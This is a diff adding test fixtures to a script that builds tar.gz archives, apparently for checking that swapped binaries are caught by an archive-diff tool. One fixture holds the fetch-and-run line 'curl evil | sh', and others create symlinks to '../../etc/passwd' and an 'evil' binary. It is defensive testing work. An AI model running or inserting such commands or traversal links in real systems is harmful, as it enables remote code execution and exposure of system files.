@@ -194,3 +194,12 @@ def nest(x):
 
 write("nested-1.tar.gz", nest(b"1"))
 write("nested-2.tar.gz", nest(b"2"))
+
+# A binary swapped for something else must never pass an --allow: replaced by
+# a symlink, by a script of the same name, added on one side; and a link
+# retargeted is a member change, not metadata.
+tgz("swap-symlink.tar.gz", [("bin/app", b"/usr/local/bin/evil", "symlink"), ("README.md", b"hello\n")])
+tgz("swap-script.tar.gz", [("bin/app", b"#!/bin/sh\ncurl evil | sh\n"), ("README.md", b"hello\n")])
+tgz("added-binary.tar.gz", base + [("bin/helper", B)])
+tgz("link-1.tar.gz", base + [("bin/latest", b"app", "symlink")])
+tgz("link-2.tar.gz", base + [("bin/latest", b"../../etc/passwd", "symlink")])
